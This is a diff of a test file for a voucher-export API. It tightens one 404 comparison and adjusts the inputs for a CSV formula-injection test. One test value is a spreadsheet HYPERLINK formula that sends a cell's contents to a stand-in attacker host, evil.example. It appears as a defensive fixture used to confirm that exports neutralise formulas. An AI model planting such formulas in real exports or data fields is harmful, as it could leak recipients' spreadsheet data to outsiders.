@@ -157,7 +157,11 @@ describe('voucher exports', () => {
       const read = await call('GET', `${DIST}/offers/${offerId}`, dist);
       expect(read.statusCode).toBe(404);
       const started = await call('POST', `${DIST}/offers/${offerId}/voucher_exports`, dist);
-      expect({ offerId, status: started.statusCode, body: started.json() }).toEqual({ offerId, status: 404, body: read.json() });
+      expect({ offerId, status: started.statusCode, errors: started.json().errors }).toEqual({
+        offerId,
+        status: 404,
+        errors: read.json().errors,
+      });
     }
     // The publisher it is exclusive to exports it.
     expect((await call('POST', `${DIST}/offers/${theirs}/voucher_exports`, insider.key)).statusCode).toBe(202);
@@ -165,7 +169,7 @@ describe('voucher exports', () => {
 
   it("a customer's name written as a formula comes out as text in the advertiser's export, as the one CSV writer writes it", async () => {
     const offerId = await seedOffer(h, sub.clientId, { initial_quantity: 10 });
-    const names = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', '@SUM(A1:A9)', '+1+1', '-1+1'];
+    const names = ['=HYPERLINK("http://evil.example/?leak="&B2,"Click me")', '@SUM(A1:A9)', '+SUM(A1)', '-A1+B1'];
     for (const name of names) {
       const res = await call('POST', `${DIST}/orders`, dist, {
         order: {
